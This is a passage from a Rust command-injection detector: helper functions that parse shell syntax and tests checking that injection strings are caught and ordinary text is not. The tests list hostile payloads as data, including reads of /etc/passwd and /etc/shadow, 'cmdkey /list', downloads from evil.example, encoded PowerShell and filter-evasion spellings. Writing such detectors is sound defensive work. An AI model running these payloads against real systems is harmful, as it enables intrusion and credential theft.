        .take_while(|c| c.is_ascii_alphanumeric() || b"_.-[]".contains(c))
        .count();
    n > 0 && rest.get(n) == Some(&b'=')
}

/// Whether `rest` starts with a file descriptor's number and a redirection (`2>`, `1>>`, `0<`).
fn redirects_descriptor(rest: &[u8]) -> bool {
    let n = rest.iter().take_while(|c| c.is_ascii_digit()).count();
    n <= 2 && matches!(rest.get(n), Some(b'>' | b'<'))
}

/// Whether `rest` starts with a cmd.exe variable, `%NAME%`.
fn cmd_variable(rest: &[u8]) -> bool {
    let n = rest[1..]
        .iter()
        .take(32)
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    n > 0 && rest.get(1 + n) == Some(&b'%')
}

/// Whether `rest` is plain arguments (words, paths) up to the `)` that closes a substitution
/// (`>(tee log)`): a function call in a script has its arguments between parentheses too, but not
/// after its name and a blank inside a `$(`.
fn plain_words_close(rest: &[u8]) -> bool {
    rest.iter()
        .take(MAX_WORD)
        .position(|c| !(c.is_ascii_alphanumeric() || b" \t._/-".contains(c)))
        .is_some_and(|n| rest[n] == b')')
}

/// Whether a blank (a space, a tab, or a `$` that may be `$IFS`) comes before the `&` that ends a
/// parameter's value.
fn blank_before_next_parameter(value: &[u8]) -> bool {
    value
        .iter()
        .find(|c| matches!(c, b' ' | b'\t' | b'$' | b'&'))
        .is_some_and(|c| *c != b'&')
}

/// Whether a word at `end` is followed, after a blank, by what only a command line has: an
/// option, a path, a variable, a redirection, a pipe, a substitution, or for the programs that
/// take one a number that ends the command (`sleep 5;`, not `sleep 8 hours`).
fn arguments_follow(text: &[u8], end: usize, numbers: bool) -> bool {
    let i = skip_blanks(text, end);
    let next = text.get(i + 1).copied().unwrap_or(0);
    i > end
        && match text.get(i) {
            Some(b'-') => next.is_ascii_alphabetic(),
            Some(b'/' | b'~' | b'$' | b'|' | b'<' | b'>' | b'`') => true,
            Some(b'0'..=b'9') => {
                let after = text[i..]
                    .iter()
                    .position(|c| !c.is_ascii_digit() && *c != b'.');
                numbers && after.is_none_or(|n| b";|&`)\n\r".contains(&text[i + n]))
            }
            _ => false,
        }
}

/// Whether a word at `end` is followed, after a blank, by a program whose name is never a word
/// (`powershell whoami`, `exec whoami`).
fn program_follows(text: &[u8], end: usize, word: &mut Vec<u8>) -> bool {
    let i = skip_blanks(text, end);
    i > end
        && read_word(text, i, word).is_some()
        && sure_program(program_name(&word.to_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn program_lists_are_sorted_for_binary_search() {
        for list in [PROGRAMS, WORD_PROGRAMS, CMDLET_VERBS, EXECUTABLE_EXTENSIONS] {
            assert!(list.windows(2).all(|w| w[0] < w[1]), "{list:?}");
        }
    }

    #[test]
    fn commands_after_separators_in_any_spelling() {
        for s in [
            ";id",
            ";X=id;$X",
            "a;host evil.example",
            "a|ip addr",
            ";$'\\x69\\x64'",
            "a|$'\\167'hoami",
            "a;c=who;d=ami;${c}${d} -a",
            "x|id|",
            "a;cat /etc/passwd",
            "a&&whoami",
            "`uname -a`",
            "$(wget http://x/a)",
            "a;c'a't /etc/passwd",
            "a;c\\at /etc/passwd",
            "a;w$@hoami",
            "a;cat${IFS}/etc/passwd",
            "a;cat$IFS$9/etc/passwd",
            "a;{cat,/etc/passwd}",
            "a;/b??/c?t /etc/passwd",
            "a|/usr/bin/id",
            "a;sleep 5",
            "x\nping -c 3 127.0.0.1",
            "a;type c:\\windows\\win.ini",
            "a|powershell -enc abc",
            "a;ping\t127.0.0.1",
            "a;$u\\who$@am$()i",
            "\\nid\\n",
            "x\\nid;",
            "x;id\\n",
            "a;u\\name -a",
            "|id\0",
            "x& ver",
            ";{echo,hello}",
            ";time sh -c whoami",
            ";nice -n 10 timeout 5 id",
            ";$SHELL -c \"id\"",
            "x;${shell} -c id",
            ">(tee log)",
            ";LD_DEBUG=help id",
            ";c^m^d /c dir",
            ";iwr http://evil.example/a.ps1",
            ";id;",
            "a);uname;",
            "&net user",
            ";ps aux",
            "|route print",
            ";get-content c:/windows/win.ini",
            "|get-childitem",
            ";new-object net.webclient",
            ";id #",
            "\"\nnet user\"",
            "\"\nver&",
            "a;id&",
            ";sha256sum /etc/shadow",
            "|cmdkey /list",
            "a;cd /tmp;",
            "x&&diff /etc/passwd /tmp/p",
            "a;/opt/app/bin/run",
            "a|usr/bin/id",
            ";./exploit",
            "a|calc.exe",
            "x;/tmp/a.sh",
            "`./x.pl`",
            ";python3.11 -c x",
            "a&&php7",
            ";whois evil.example",
            "|nmap -sv 10.0.0.1",
            ";echo vulnerable",
            "a|echo 12345;",
            "$(printf abc)",
            ";(id)",
            "a|(cat /etc/passwd)",
            ";c:\\windows\\system32\\cmd.exe /c dir",
            "&&C:\\Windows\\System32\\whoami.exe",
            "|xterm -display 10.0.0.1:1",
        ] {
            assert!(injected(s.as_bytes()), "{s}");
        }
    }

    proptest::proptest! {
        /// Any bytes are read without a panic, and a command stays found whatever text is put
        /// before the separator that starts it.
        #[test]
        fn any_bytes_are_read(
            text in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300),
        ) {
            let _ = injected(&text);
            let mut with = text.clone();
            with.extend_from_slice(b"|whoami");
            proptest::prop_assert!(injected(&with));
        }
    }

    #[test]
    fn words_that_are_not_commands() {
        for s in [
            "rock & roll; cat videos",
            "q=tom&id=5",
            "q=shoes&sort=price&id",
            "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36",
            "mozilla/5.0 (x11; linux x86_64; rv:120.0) gecko/20100101 firefox/120.0",
            "salt; pepper | time to eat",
            "a=1&b=2&c=3",
            "mozilla/5.0 (compatible; curl/7.1)",
            "see you; last week",
            "opera/9.80 (mtk; opera mini/2.1199/34.1244; u; id) presto/2.8.119",
            "mozilla/5.0 (windows nt 6.3; arm; trident/7.0; touch; rv:11.0) like gecko",
            "mozilla/4.0 (compatible; msie 7.0; windows nt 6.0; su 3.002; su 3.004; slcc1)",
            "data=\n  (\n    node(18.18, 38.27);\n  out meta;",
            "mozilla/5.0 (compatible; nmap scripting engine; https://nmap.org/book/nse.html)",
            "?q=python",
            "?q=python tutorial&page=2",
            "?lang=sh&sort=date",
            "?q=sleep 8 hours",
            "what time is it; time to go",
            "$(document).ready(function(){})",
            "a;x=1 b",
            "curl/7.68.0",
            "wget/1.21.2 (linux-gnu)",
            "python-requests/2.31.0",
            "a=1;$b",
            "see the host; host name here",
            "rock | ip and sound",
            "x=5; cost $x",
            "price=$x;x=2",
            "mozilla/5.0 (linux; u; android 4.0.3; id; gt-i9100)",
            "see the net; net income is high",
            "the ps; ps is a note",
            "the path; id #3",
            "cards; get-well soon",
            "q=get-content",
            "?q=cd player&stat=1",
            "lyrics; cd of the year",
            "the diff; diff is small",
            "mozilla/5.0 (windows nt 10.0; setup.exe)",
            "q=a&run.sh",
            "/docs;bin/readme",
            "the top; top of the list",
            "python3.x; php.ini",
            "mozilla/5.0 (x11; echo 2)",
            "q=echo hello",
            "q=(cat videos)",
            "(ls models)",
        ] {
            assert!(!injected(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn commands_where_a_value_starts_need_arguments() {
        for s in [
            "?cmd=cat /etc/passwd",
            "?q=ping -n 30 127.0.0.1",
            "?x=1&t=sleep 5",
            "ls -la /var/www",
            "/files/cat /etc/hosts",
            "?c=powershell whoami",
            "?c=exec whoami",
        ] {
            assert!(injected(s.as_bytes()), "{s}");
        }
        for s in ["?cmd=id", "?tool=curl", "?q=cat videos"] {
            assert!(!injected(s.as_bytes()), "{s}");
        }
    }

    /// Every injection of the grammar's cross product is read: what comes before the
    /// separator, the separator, the command and what ends it, in a query and in a header.
    #[test]
    fn the_cross_product_of_separators_commands_and_endings_is_read() {
        let before = ["", "x", "127.0.0.1", "1'", "1\"", "a b"];
        let separators = [";", "|", "||", "&&", "\n", " ; ", " | ", "\r\n"];
        let commands = [
            "id",
            "whoami",
            "uname -a",
            "cat /etc/passwd",
            "ls -la",
            "pwd",
            "ifconfig",
            "ipconfig /all",
            "ping -c 4 127.0.0.1",
            "sleep 5",
            "nslookup example.com",
            "curl http://example.com/x",
            "type c:\\windows\\win.ini",
            "dir c:\\",
            "net user",
            "/usr/bin/id",
            "echo %path%",
        ];
        let endings = ["", " #", ";", "|", " 2>&1", " >/dev/null", "&"];
        let mut missed = Vec::new();
        for b in before {
            for sep in separators {
                for c in commands {
                    for e in endings {
                        let value = format!("{b}{sep}{c}{e}");
                        for text in [format!("?q={value}&p=1"), value.clone()] {
                            if !injected(text.as_bytes()) {
                                missed.push(text);
                            }
                        }
                    }
                }
            }
        }
        assert!(
            missed.is_empty(),
            "{} missed: {:?}",
            missed.len(),
            &missed[..missed.len().min(20)]
        );
    }

    #[test]
    fn redirections_of_descriptors_and_cmd_variables_are_a_command_line() {
        for s in [
            "| ver 2>&1",
            ";pwd 1>/dev/null",
            "& echo %USERNAME%",
            "|set 2>nul",
        ] {
            assert!(injected(s.as_bytes()), "{s}");
        }
        for s in ["; ver 2 things", "& echo 100% sure", "; set 2 > 1"] {
            assert!(!injected(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn a_lone_recon_program_is_a_command_where_no_word_belongs() {
        for s in [
            "?cmd=whoami",
            "?a=1&c=w'h'oami&b=2",
            "?run=ipconfig.exe",
            "?c=net user",
            "whoami",
            "id",
            " pwd ",
            "hostname",
        ] {
            assert!(injected(s.as_bytes()), "{s}");
        }
        for s in [
            "?sort=id",
            "?field=hostname",
            "?q=pwd",
            "/id",
            "/whoami",
            "id card",
            "Mozilla/5.0 (Linux; Android 14)",
        ] {
            assert!(!injected(s.as_bytes()), "{s}");
        }
    }
}
